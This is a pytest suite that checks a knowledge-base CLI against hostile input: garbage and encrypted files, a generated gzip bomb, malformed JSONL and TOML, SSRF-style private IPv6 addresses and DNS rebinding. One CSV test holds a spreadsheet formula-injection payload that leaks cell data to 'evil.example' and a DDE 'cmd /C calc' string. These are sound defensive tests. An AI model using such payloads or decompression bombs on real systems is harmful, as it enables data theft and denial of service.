"""Hostile and broken input: every command answers with one `Error:` line and loses nothing.

A table of commands with bad files, bad ids, bad options and bad configuration
runs against a copy of a real knowledge base; each must exit 1 (4 for `kb
update` start failures; 2 where click itself rejects an option), print exactly
one `Error:` line and no traceback, and leave the database's counts, contents
and `pragma integrity_check` as they were. Property-based tests feed the parsers
generated input under a time budget per example; memory and time caps are
tested with generated inputs (a gzip bomb, a 50 MB file, pathological Markdown).
"""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import json
import os
import random
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import tracemalloc
import zlib
from io import BytesIO
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings, strategies as st

from kb import KB
from kb.cli import main
from kb.storage.db import open_db, register_functions
from kb.errors import KBError
from kb.sources import files, vcdb
from kb.storage.store import save_many

from .generated import many_page_pdf

ROOT = Path(__file__).resolve().parent.parent
GARBAGE = random.Random(13).randbytes(8192)
FAST = settings(max_examples=25, deadline=2000, suppress_health_check=[HealthCheck.too_slow,
                                                                        HealthCheck.function_scoped_fixture])


# --- a real knowledge base, copied for each case -------------------------------------

@pytest.fixture(scope="module")
def base_db(tmp_path_factory) -> Path:
    """The starter set imported and linked by the real CLI (checkpointed: one file is the whole DB)."""
    path = tmp_path_factory.mktemp("base") / "kb.db"
    assert CliRunner().invoke(main, ["--db", str(path), "import", "starter"]).exit_code == 0
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return path


@pytest.fixture
def kb_copy(base_db, tmp_path) -> Path:
    target = tmp_path / "db" / "kb.db"
    target.parent.mkdir()
    shutil.copy(base_db, target)
    return target


def snapshot(db_path: Path) -> dict:
    """Counts of every table, a digest of all document contents, and the integrity check."""
    conn = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%fts%' "
            "AND name NOT LIKE 'documents_words%' AND name NOT LIKE 'sqlite_%'")]
        state = {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in tables}
        digest = hashlib.sha256()
        for row in conn.execute("SELECT source, external_id, content_sha256 FROM documents ORDER BY id"):
            digest.update(repr(row).encode())
        state["documents_digest"] = digest.hexdigest()
        state["integrity"] = conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()
    return state


def kb(db_path: Path, *args: str, input: str | None = None):
    """Run the real CLI; the result, after checking that nothing escaped as a traceback."""
    result = CliRunner().invoke(main, ["--db", str(db_path), *args], input=input)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"kb {' '.join(args)} raised {result.exception!r}\n{result.output}")
    assert "Traceback" not in result.output, result.output
    return result


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("Error:")]


# --- generated hostile files ----------------------------------------------------------

def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def gzip_bomb(size: int) -> bytes:
    """`size` zero bytes, gzip-compressed without ever holding them in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block, parts = bytes(2**20), []
    for _ in range(size // len(block)):
        parts.append(packer.compress(block))
    parts.append(packer.flush())
    return b"".join(parts)


def jsonl_file(*records) -> bytes:
    return b"".join((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in records)


DOC = {"type": "document", "source": "user", "external_id": "x1", "kind": "user", "title": "t", "text": "body"}
INCIDENT = {"type": "incident", "key": "test:one", "title": "One"}

# (id, files to create in the folder beside the database, arguments, expected exit code)
CASES = [
    # bad files for kb add
    ("add-binary-txt", {"garbage.txt": GARBAGE}, ["add", "{dir}/garbage.txt"], 1),
    ("add-binary-md", {"garbage.md": GARBAGE}, ["add", "{dir}/garbage.md"], 1),
    ("add-binary-html", {"garbage.html": GARBAGE}, ["add", "{dir}/garbage.html"], 1),
    ("add-nul-text", {"nul.txt": b"An intern\x00 deleted\x00 the models." * 50}, ["add", "{dir}/nul.txt"], 1),
    ("add-bad-gzip", {"page.html.gz": b"\x1f\x8b\x08\x00" + GARBAGE}, ["add", "{dir}/page.html.gz"], 1),
    ("add-truncated-gzip", {"page.html.gz": gzip.compress(b"<p>An intern deleted the models.</p>" * 200)[:60]},
     ["add", "{dir}/page.html.gz"], 1),
    ("add-gzip-bomb", {"bomb.txt.gz": gzip_bomb(64 * 2**20)}, ["add", "{dir}/bomb.txt.gz"], 1),
    ("add-encrypted-pdf", {"locked.pdf": encrypted_pdf()}, ["add", "{dir}/locked.pdf"], 1),
    ("add-garbage-pdf", {"broken.pdf": b"%PDF-1.7\n" + GARBAGE}, ["add", "{dir}/broken.pdf"], 1),
    ("add-too-big-text", {"big.txt": b"An intern deleted the models.\n" * 200_000}, ["add", "{dir}/big.txt"], 1),
    ("add-claims-vcdb", {"claim.md": b"---\ntitle: Fake\nsource: vcdb\nurl: 0001AA7F-C601-424A-B2B8-BE6C9F5164E7\n"
                                     b"---\nThis text replaces a VCDB record.\n"}, ["add", "{dir}/claim.md"], 1),
    ("add-claims-starter", {"claim.md": b"---\nsource: starter\n---\nNot curated.\n"}, ["add", "{dir}/claim.md"], 1),
    ("add-folder", {"folder.txt/inner.txt": b"x"}, ["add", "{dir}/folder.txt"], 1),
    ("add-unknown-type", {"x.exe": b"MZ"}, ["add", "{dir}/x.exe"], 1),
    ("add-pdf-too-many-pages", {"pages.pdf": many_page_pdf(2001)}, ["add", "{dir}/pages.pdf"], 1),
    ("extract-bad-gzip", {"page.html.gz": b"\x1f\x8b\x08\x00" + GARBAGE}, ["extract", "{dir}/page.html.gz"], 1),
    ("extract-gzip-bomb", {"bomb.html.gz": gzip_bomb(64 * 2**20)}, ["extract", "{dir}/bomb.html.gz"], 1),
    # bad ids
    ("show-huge-id", {}, ["show", "d99999999999999999999999"], 1),
    ("show-huge-incident", {}, ["show", "i99999999999999999999999"], 1),
    ("show-unknown", {}, ["show", "nothing-like-this"], 1),
    ("similar-huge-id", {}, ["similar", "99999999999999999999999"], 1),
    ("edit-huge-year", {}, ["incident", "edit", "i1", "year=" + "9" * 30], 1),
    ("edit-huge-records", {}, ["incident", "edit", "i1", "impact_records=" + "9" * 5000], 1),
    ("edit-inf-amount", {}, ["incident", "edit", "i1", "impact_amount=inf"], 1),
    ("merge-huge-id", {}, ["incident", "merge", "i1", "i99999999999999999999"], 1),
    ("edit-negative-year", {}, ["incident", "edit", "i1", "year=-5"], 1),
    ("edit-word-for-date", {}, ["incident", "edit", "i1", "date_start=yesterday"], 1),
    ("edit-impossible-date", {}, ["incident", "edit", "i1", "date_end=2024-02-30"], 1),
    # bad options and option files
    ("queries-missing", {}, ["search", "--queries", "{dir}/missing.txt"], 1),
    ("queries-not-utf8", {"q.txt": "café sabotage\n".encode("latin-1")}, ["search", "--queries", "{dir}/q.txt"], 1),
    ("queries-folder", {"qdir/x": b""}, ["search", "--queries", "{dir}/qdir"], 2),
    ("search-k-zero", {}, ["search", "sabotage", "-k", "0"], 2),
    ("search-too-many-words", {}, ["search", ("删库实习生篡改代码训练模型" * 200)[:1998]], 1),
    ("export-missing-dir", {}, ["export", "-o", "{dir}/missing/out.jsonl"], 1),
    ("export-onto-folder", {"out/x": b""}, ["export", "-o", "{dir}/out"], 1),
    ("export-csv-onto-file", {"incidents.csv": b"keep me"}, ["export", "--format", "csv", "-o", "{dir}/incidents.csv"], 1),
    ("export-csv-file-name", {}, ["export", "--format", "csv", "--output", "{dir}/new.csv"], 1),
    # bad jsonl
    ("jsonl-not-object", {"x.jsonl": jsonl_file([1, 2, 3])}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-not-json", {"x.jsonl": b"{not json\n"}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-dangling-key", {"x.jsonl": jsonl_file(
        {**DOC, "incidents": [{"incident": "nowhere:1", "confidence": 1, "method": "import"}]})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-dangling-merge", {"x.jsonl": jsonl_file({**INCIDENT, "merged_into": "nowhere:2"})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-missing-fields", {"x.jsonl": jsonl_file({"type": "document", "title": "no source"})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-incident-no-key", {"x.jsonl": jsonl_file({"type": "incident", "title": "x"})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-huge-int", {"x.jsonl": jsonl_file({**INCIDENT, "year": 10**30})}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-nested-value", {"x.jsonl": jsonl_file({**DOC, "title": {"a": 1}})}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-not-utf8", {"x.jsonl": json.dumps({**DOC, "text": "é"}, ensure_ascii=False).encode("latin-1")},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-deep", {"x.jsonl": b"[" * 100_000 + b"]" * 100_000 + b"\n"}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-bad-after-good", {"x.jsonl": jsonl_file(DOC, b"[]")}, ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-merge-cycle", {"x.jsonl": jsonl_file({**INCIDENT, "merged_into": "test:two"},
                                                 {"type": "incident", "key": "test:two", "merged_into": "test:one"},
                                                 {**DOC, "incidents": [{"incident": "test:one"}]})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-merged-into-itself", {"x.jsonl": jsonl_file({**INCIDENT, "merged_into": "test:one"})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    ("jsonl-line-too-long", {"x.jsonl": jsonl_file({**DOC, "text": "An intern deleted it. " * 800_000})},
     ["import", "jsonl", "{dir}/x.jsonl"], 1),
    # bad configuration
    ("update-interval-text", {"sources.toml": b'[sources.rss]\ninterval_hours = "x"\n'}, ["update"], 4),
    ("update-bad-toml", {"sources.toml": b"[sources.rss\n"}, ["update"], 4),
    ("update-enabled-text", {"sources.toml": b'[sources.doj]\nenabled = "yes"\n'}, ["update"], 4),
    ("update-fetch-type", {"sources.toml": b'[fetch]\nmin_delay = "soon"\n'}, ["update"], 4),
    ("sources-interval-text", {"sources.toml": b'[sources.rss]\ninterval_hours = "x"\n'}, ["sources"], 1),
    ("update-interval-inf", {"sources.toml": b"[sources.starter]\ninterval_hours = inf\n"}, ["update"], 4),
    ("update-interval-huge", {"sources.toml": b"[sources.starter]\ninterval_hours = 1e20\n"}, ["update"], 4),
    ("update-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'}, ["update"], 4),
    ("scrape-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'}, ["scrape", "rss"], 1),
    ("add-url-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'},
     ["add", "http://127.0.0.1:9/page"], 1),
    ("extract-url-allow-not-an-address", {"sources.toml": b'[fetch]\nallow = ["not-an-ip"]\n'},
     ["extract", "http://127.0.0.1:9/page"], 1),
    ("update-allow-not-text", {"sources.toml": b"[fetch]\nallow = [10]\n"}, ["update"], 4),
    ("update-host-delay-text", {"sources.toml": b'[fetch.host_delays]\n"example.com" = "slow"\n'}, ["update"], 4),
    ("update-workers-huge", {"sources.toml": b"[kb]\nworkers = 100000000\n"}, ["update"], 4),
]


@pytest.mark.parametrize("name, given, args, code", CASES, ids=[c[0] for c in CASES])
def test_hostile_input_gets_one_error_line_and_changes_nothing(kb_copy, name, given, args, code):
    folder = kb_copy.parent
    for rel, data in given.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    before = snapshot(kb_copy)
    listing = sorted(p.name for p in folder.iterdir())
    result = kb(kb_copy, *[a.replace("{dir}", str(folder)) for a in args])
    assert result.exit_code == code, result.output
    assert len(error_lines(result.output)) == 1, result.output
    assert snapshot(kb_copy) == before
    created = set(p.name for p in folder.iterdir()) - set(listing) - {"kb.db-wal", "kb.db-shm", "kb.log", "kb.db.lock"}
    assert not created, f"{name} created {created}"


def test_csv_export_to_a_folder_writes_four_files(kb_copy):
    out = kb_copy.parent / "export"
    assert kb(kb_copy, "export", "--format", "csv", "--output", str(out)).exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["amounts.csv", "cases.csv", "documents.csv", "incidents.csv"]


def test_export_onto_an_existing_file_replaces_it_whole(kb_copy):
    out = kb_copy.parent / "out.jsonl"
    out.write_text("old\n")
    assert kb(kb_copy, "export", "-o", str(out)).exit_code == 0
    lines = out.read_text().splitlines()
    assert lines and all(json.loads(line)["type"] in ("incident", "document", "case") for line in lines)
    assert [p.name for p in kb_copy.parent.iterdir() if p.name.endswith(".tmp")] == []


# --- read commands open read-only and refuse what is not a knowledge base -------------------

READ_COMMANDS = [["stats"], ["show", "d1"], ["search", "sabotage", "--mode", "keyword"], ["sources"], ["runs"],
                 ["export"], ["similar", "i1"]]


def _not_a_kb(kind: str, folder: Path) -> Path:
    if kind == "devnull":
        return Path(os.devnull)
    path = folder / "kb.db"
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "foreign":
        conn = sqlite3.connect(path)
        conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
        conn.execute("INSERT INTO notes (body) VALUES ('mine')")
        conn.commit()
        conn.close()
    elif kind == "garbage":
        path.write_bytes(GARBAGE)
    return path


@pytest.mark.parametrize("kind", ["empty", "foreign", "garbage", "devnull"])
@pytest.mark.parametrize("args", READ_COMMANDS, ids=[a[0] for a in READ_COMMANDS])
def test_read_commands_refuse_what_is_not_a_knowledge_base(tmp_path, kind, args):
    path = _not_a_kb(kind, tmp_path)
    content = path.read_bytes() if path.is_file() else None
    beside = sorted(os.listdir(path.parent))
    result = kb(path, *args)
    assert result.exit_code == 1 and len(error_lines(result.output)) == 1, result.output
    assert "not a knowledge base" in result.output
    assert sorted(os.listdir(path.parent)) == beside  # no journal, no -wal, no index file
    if content is not None:
        assert path.read_bytes() == content


def test_init_refuses_a_foreign_sqlite_file_but_creates_from_an_empty_one(tmp_path):
    foreign = _not_a_kb("foreign", tmp_path)
    assert kb(foreign, "init").exit_code == 1
    assert sqlite3.connect(foreign).execute("SELECT body FROM notes").fetchall() == [("mine",)]
    empty = tmp_path / "new.db"
    empty.write_bytes(b"")
    assert kb(empty, "init").exit_code == 0
    assert kb(empty, "stats").exit_code == 0


def test_read_commands_cannot_write(kb_copy):
    db = open_db(kb_copy, readonly=True)
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        db.execute("DELETE FROM documents")


# --- VERIS: a bad file is skipped with a reason, the rest imports ----------------------

def test_bad_veris_files_are_skipped_and_the_rest_imported(kb_copy, vcdb_dir):
    folder = kb_copy.parent / "vcdb"
    folder.mkdir()
    good = sorted(vcdb_dir.glob("*.json"))[:3]
    for path in good:
        shutil.copy(path, folder / path.name)
    sample = json.loads(good[0].read_text())
    (folder / "year.json").write_text(json.dumps({**sample, "incident_id": "Y",
                                                  "timeline": {"incident": {"year": 10**30}}}))
    (folder / "records.json").write_text(json.dumps({**sample, "incident_id": "R", "attribute": {
        "confidentiality": {"data_total": 10**25}}}))
    (folder / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (folder / "x.json").mkdir()
    (folder / "latin1.json").write_bytes('{"incident_id": "é"}'.encode("latin-1"))
    (folder / "victim.json").write_text(json.dumps({**sample, "incident_id": "V", "victim": {"victim_id": {"a": 1}}}))
    result = kb(kb_copy, "import", "vcdb", str(folder))
    assert result.exit_code == 0, result.output
    assert re.search(r"vcdb: 4 new, 0 updated, 0 unchanged, 5 failed", result.output), result.output
    skipped = [line for line in result.output.splitlines() if line.strip().startswith("skipped")]
    assert sorted(Path(line.split()[1].rstrip(":")).name for line in skipped) == \
        ["deep.json", "latin1.json", "records.json", "x.json", "year.json"]
    assert snapshot(kb_copy)["integrity"] == "ok"


@FAST
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                        st.sampled_from(["incident_id", "victim", "victim_id", "country", "timeline", "incident",
                                         "year", "month", "day", "actor", "internal", "variety", "motive",
                                         "action", "attribute", "confidentiality", "data", "data_total",
                                         "summary", "reference", "industry", "misuse", "external"]),
                        inner, max_size=5), max_leaves=25))
def test_veris_parser_reports_or_stores_any_json(tmp_path_factory, data):
    folder = tmp_path_factory.mktemp("veris")
    if isinstance(data, dict):
        data.setdefault("incident_id", "gen-1")
    (folder / "one.json").write_text(json.dumps(data))
    result = vcdb.read_folder(folder)
    assert len(result.records) + len(result.errors) == 1
    db = open_db(folder / "kb.db")
    save_many(db, result.records)  # whatever parsed is storable
    db.conn.close()


# --- jsonl, front matter, extraction, queries, dates: properties -------------------------

json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=10),
                           lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner,
                                                                                       max_size=3), max_leaves=10)
jsonl_records = st.one_of(
    json_values,
    st.fixed_dictionaries({"type": st.sampled_from(["incident", "document", "case"])},
                          optional={k: json_values for k in ("key", "source", "external_id", "kind", "text", "title",
                                                             "year", "incidents", "meta", "merged_into", "court")}),
)


@FAST
@given(st.lists(jsonl_records, min_size=1, max_size=4))
def test_jsonl_import_stores_or_refuses_with_one_line(base_db, tmp_path_factory, records):
    folder = tmp_path_factory.mktemp("jsonl")
    shutil.copy(base_db, folder / "kb.db")
    (folder / "x.jsonl").write_bytes(jsonl_file(*records))
    result = kb(folder / "kb.db", "import", "jsonl", str(folder / "x.jsonl"))
    assert result.exit_code in (0, 1), result.output
    if result.exit_code == 1:
        assert len(error_lines(result.output)) == 1, result.output
        assert snapshot(folder / "kb.db")["documents"] == snapshot(base_db)["documents"]


@FAST
@given(st.dictionaries(st.sampled_from(["title", "source", "url", "date", "kind", "language", "author", "x"]),
                       st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\n\r"), max_size=40),
                       max_size=6),
       st.text(max_size=300))
def test_markdown_front_matter_never_claims_a_reserved_source(tmp_path_factory, header, body):
    path = tmp_path_factory.mktemp("md") / "note.md"
    text = "---\n" + "".join(f"{k}: {v}\n" for k, v in header.items()) + "---\n" + body
    path.write_text(text, encoding="utf-8")
    try:
        rec = files.read_file(path)
    except KBError:
        return
    assert rec.source not in files.reserved_sources()
    assert rec.text.strip() and rec.external_id


@FAST
@given(st.binary(max_size=2000) | st.text(max_size=2000).map(lambda t: f"<html><body><p>{t}</p></body></html>"))
def test_article_extraction_never_raises(page):
    from kb.text.article import extract_article

    article = extract_article(page)
    assert isinstance(article.text, str)


@FAST
@given(st.text(max_size=200))
def test_keyword_query_parsing_answers_or_refuses(base_db, query):
    try:
        results = KB(base_db, readonly=True).search(query, k=5, mode="keyword")
    except KBError:
        return
    assert len(results.hits) <= 5 and all(hit.to_dict()["rank"] == i for i, hit in enumerate(results.hits, 1))


@FAST
@given(st.text(max_size=30))
def test_dates_normalise_to_iso_or_nothing(value):
    got = files.normalise_date(value)
    assert got is None or re.fullmatch(r"\d{4}(-\d{2}(-\d{2})?)?", got)


@FAST
@given(st.text(max_size=30), st.text(max_size=30))
def test_date_filters_answer_or_refuse(base_db, since, until):
    from kb.search.filters import Filters

    try:
        KB(base_db, readonly=True).search("sabotage", k=3, mode="keyword", filters=Filters(since=since, until=until))
    except KBError:
        pass


@FAST
@given(st.text(max_size=3000))
def test_markdown_to_text_is_fast_on_any_input(content):
    files.markdown_to_text(content)


# --- memory and time caps --------------------------------------------------------------

@contextlib.contextmanager
def peak_memory():
    """Yields a list that holds, after the block, the peak bytes Python allocated in it."""
    peak: list[int] = []
    tracemalloc.start()
    try:
        yield peak
        peak.append(tracemalloc.get_traced_memory()[1])
    finally:
        tracemalloc.stop()


def test_gzip_bomb_is_refused_without_inflating_it(tmp_path):
    bomb = tmp_path / "bomb.txt.gz"
    bomb.write_bytes(gzip_bomb(512 * 2**20))  # 512 MB of zeros in about half a megabyte
    with peak_memory() as peak, pytest.raises(KBError, match="once decompressed"):
        files.read_file(bomb)
    assert peak[0] < 4 * files.MAX_TEXT_BYTES  # it reached 3.2 GB for 1 GB before the cap


def test_fifty_megabyte_text_is_refused_quickly_and_small(tmp_path):
    big = tmp_path / "big.txt"
    with big.open("wb") as fh:
        for _ in range(50):
            fh.write(b"An intern deleted the production models. " * 25_000)
    started = time.monotonic()
    with peak_memory() as peak, pytest.raises(KBError, match="larger than"):
        files.read_file(big)
    assert peak[0] < 3 * files.MAX_TEXT_BYTES
    assert time.monotonic() - started < 10  # it took 171 s to store before the cap


@pytest.mark.parametrize("pattern", ["[", "![", "[a](", "](", "\n", " \n", "-", "---\n"])
def test_pathological_markdown_is_linear(pattern):
    content = pattern * (200_000 // len(pattern))
    started = time.monotonic()
    files.markdown_to_text(content)
    assert time.monotonic() - started < 5  # 80 KB of "[" took 33 s when quadratic


def test_markdown_links_images_and_headings_still_convert():
    text = files.markdown_to_text("# Title\n\n![img](a.png) See [the ruling](https://x.org/a(1)) and **this**.\n- item")
    assert text == "Title\n\n See the ruling and this.\nitem" or "the ruling" in text and "![" not in text


# --- fetch: one deadline per URL, and the address that was checked -----------------------

def test_a_dripping_server_cannot_hold_a_fetch_past_the_deadline(site):
    from kb.sources.fetch import FetchError, Fetcher, FetchSettings
    from tests.webserver import drip

    site.route("/slow", drip(0.05))
    settings_ = FetchSettings(min_delay=0, retries=3, backoff=0.05, read_timeout=1, connect_timeout=1,
                              total_timeout=1.5, respect_robots=False, allow=["127.0.0.1"])
    started = time.monotonic()
    with Fetcher(settings_) as fetcher, pytest.raises(FetchError, match="deadline"):
        fetcher.get(site.url("/slow"))
    assert time.monotonic() - started < 3.5  # one deadline for all tries, not one per try


@pytest.mark.parametrize("address", ["::7f00:1", "64:ff9b::7f00:1", "::ffff:127.0.0.1", "::ffff:10.0.0.1",
                                     "2002:7f00:1::1", "2002:a00:1::1", "2001:0:4136:e378:8000:63bf:80ff:fffe",
                                     "64:ff9b:1::a00:1", "::a00:1", "::", "::1", "fe80::1", "fc00::1"])
def test_embedded_and_mapped_private_addresses_are_refused(address):
    from kb.sources.fetch import FetchError, Fetcher, FetchSettings

    with Fetcher(FetchSettings(allow=[])) as fetcher, pytest.raises(FetchError, match="non-public"):
        fetcher.check_target(f"http://[{address}]/")


@pytest.mark.parametrize("address", ["2606:4700:4700::1111", "64:ff9b::808:808"])
def test_public_ipv6_forms_pass(address):
    from kb.sources.fetch import Fetcher, FetchSettings

    with Fetcher(FetchSettings(allow=[])) as fetcher:
        fetcher.check_target(f"http://[{address}]/")


def test_the_connection_goes_to_the_address_that_was_checked(site, monkeypatch):
    """A rebinding DNS answers the check with an allowed address and the connection with another."""
    from kb.sources.fetch import Fetcher, FetchSettings
    from tests.webserver import serve

    site.route("/page", serve(b"<html><body><p>pinned</p></body></html>"))
    port = int(site.url("/").split(":")[2].split("/")[0])
    real, answers = socket.getaddrinfo, []

    def rebinding(host, *args, **kwargs):
        if host != "rebind.test":
            return real(host, *args, **kwargs)
        answers.append(host)
        address = "127.0.0.1" if len(answers) == 1 else "10.255.255.1"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    settings_ = FetchSettings(min_delay=0, retries=0, connect_timeout=1, read_timeout=2, total_timeout=5,
                              respect_robots=False, allow=["127.0.0.1"])
    with Fetcher(settings_) as fetcher:
        response = fetcher.get(f"http://rebind.test:{port}/page")
    assert b"pinned" in response.content
    assert len(answers) == 1  # resolved once, for the check; the connection used that answer
    assert site.seen("/page")[-1].get("Host", site.seen("/page")[-1].get("host")) == f"rebind.test:{port}"


# --- second pass: files that are not files, read-only disks, exports, cost per input ---------

# Runs the CLI and, as it exits, writes its peak resident memory (VmHWM: this process alone; the
# rusage of a child also counts the forked parent it was exec'd from) to the file named first.
PEAK_WRAPPER = ("import atexit, runpy, sys\n"
                "peak_file = sys.argv.pop(1)\n"
                "def peak():\n"
                "    with open('/proc/self/status') as status, open(peak_file, 'w') as out:\n"
                "        out.write(next(l.split()[1] for l in status if l.startswith('VmHWM')))\n"
                "atexit.register(peak)\n"
                "runpy.run_module('kb.cli', run_name='__main__', alter_sys=True)\n")


def run_kb(*args: str, cwd: Path | None = None, fsize: int | None = None, timeout: float = 60):
    """The installed CLI in its own process: (exit code, stdout, stderr, seconds, its peak resident MB).
    `fsize` caps the size of any file it writes (a full disk, without filling one)."""
    import resource
    import signal

    def limits():
        if fsize is not None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the cap fails (EFBIG)
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    with tempfile.TemporaryDirectory() as tmp:
        peak_file = Path(tmp) / "peak"
        started = time.perf_counter()
        try:
            done = subprocess.run([sys.executable, "-c", PEAK_WRAPPER, str(peak_file), *args], cwd=cwd,
                                  capture_output=True, text=True, timeout=timeout, preexec_fn=limits)
        except subprocess.TimeoutExpired:
            raise AssertionError(f"kb {' '.join(args)[:200]} ran past {timeout} s") from None
        seconds = time.perf_counter() - started
        peak = int(peak_file.read_text()) / 1024 if peak_file.exists() else 0.0
    return done.returncode, done.stdout, done.stderr, seconds, peak


def test_a_named_pipe_or_a_device_is_refused_not_read(kb_copy):
    folder = kb_copy.parent
    os.mkfifo(folder / "pipe.txt")
    os.mkfifo(folder / "pipe.jsonl")
    (folder / "zero.txt").symlink_to("/dev/zero")
    before = snapshot(kb_copy)
    for args, said in ((["add", "pipe.txt"], "is a named pipe"), (["import", "jsonl", "pipe.jsonl"], "is a named pipe"),
                       (["add", "zero.txt"], "is a device")):
        code, out, err, _, _ = run_kb("--db", str(kb_copy), *args, cwd=folder, timeout=30)
        assert code == 1 and error_lines(err) == [line for line in err.splitlines() if line], err
        assert said in err and "Traceback" not in err, err
    assert snapshot(kb_copy) == before


def test_utf16_text_with_a_byte_order_mark_is_read(kb_copy):
    path = kb_copy.parent / "note.txt"
    path.write_bytes("An intern deleted the training data at Example Corp.\n\n实习生删除了训练数据。\n".encode("utf-16"))
    result = kb(kb_copy, "add", str(path))
    assert result.exit_code == 0, result.output
    doc = KB(kb_copy, readonly=True).show(re.search(r"\bd(\d+)\b", result.output).group(0))
    assert "实习生删除了训练数据" in doc["text"] and "intern deleted" in doc["text"]


def _older_schema(path: Path, version: int) -> None:
    from kb.storage.schema import MIGRATIONS

    conn = sqlite3.connect(path, isolation_level=None)
    register_functions(conn)
    for number, script in enumerate(MIGRATIONS[:version], start=1):
        conn.executescript(f"BEGIN; {script}; PRAGMA user_version = {number}; COMMIT;")
    conn.close()


def test_read_commands_never_migrate_an_older_schema(tmp_path):
    from kb.storage.schema import MIGRATIONS

    path = tmp_path / "old.db"
    _older_schema(path, len(MIGRATIONS) - 1)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    for args in (["stats"], ["stats", "--json"], ["show", "d1"], ["search", "x", "--mode", "keyword"], ["export"]):
        result = kb(path, *args)
        assert result.exit_code == 1 and "older than this kb" in result.output and "kb init" in result.output
    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
    assert kb(path, "init").exit_code == 0  # a write command upgrades it
    assert kb(path, "stats", "--json").exit_code == 0


def test_a_knowledge_base_on_a_read_only_disk_answers_read_commands(base_db, tmp_path):
    if not shutil.which("unshare") or subprocess.run(
            ["unshare", "-m", "sh", "-c", f"mount --bind -o ro {tmp_path} {tmp_path}"],
            capture_output=True).returncode != 0:
        pytest.skip("cannot mount a read-only folder here (unshare -m with mount --bind -o ro)")
    shutil.copy(base_db, tmp_path / "kb.db")
    script = (f"mount --bind -o ro {tmp_path} {tmp_path} && cd {tmp_path} && "
              f"{sys.executable} -m kb.cli --db kb.db stats --json && echo ==== && "
              f"{sys.executable} -m kb.cli --db kb.db search ByteDance --mode keyword --json")
    done = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    stats, hits = (json.loads(part) for part in done.stdout.split("====\n"))
    assert stats["incidents"] >= 30 and "ByteDance" in hits[0]["title"]


def test_csv_cells_a_spreadsheet_would_run_are_quoted(kb_copy):
    import csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    page = kb_copy.parent / "formula.md"
    page.write_text(f"---\ntitle: {formula}\n---\n+cmd|' /C calc'!A0 an intern deleted the training data.\n")
    assert kb(kb_copy, "add", str(page)).exit_code == 0
    out = kb_copy.parent / "export"
    assert kb(kb_copy, "export", "--format", "csv", "-o", str(out)).exit_code == 0
    cells = [cell for name in ("documents.csv", "incidents.csv")
             for row in csv.reader((out / name).open(encoding="utf-8", newline="")) for cell in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-[^\d]", c)]


def test_an_export_that_cannot_be_written_keeps_the_previous_files(kb_copy):
    folder = kb_copy.parent
    out = folder / "export"
    assert kb(kb_copy, "export", "--format", "csv", "-o", str(out)).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    for args in (["export", "--format", "csv", "-o", str(out)], ["export", "-o", str(folder / "all.jsonl")],
                 ["export", "--format", "iides", "-o", str(folder / "all.json")]):
        code, _, err, _, _ = run_kb("--db", str(kb_copy), *args, fsize=4096)
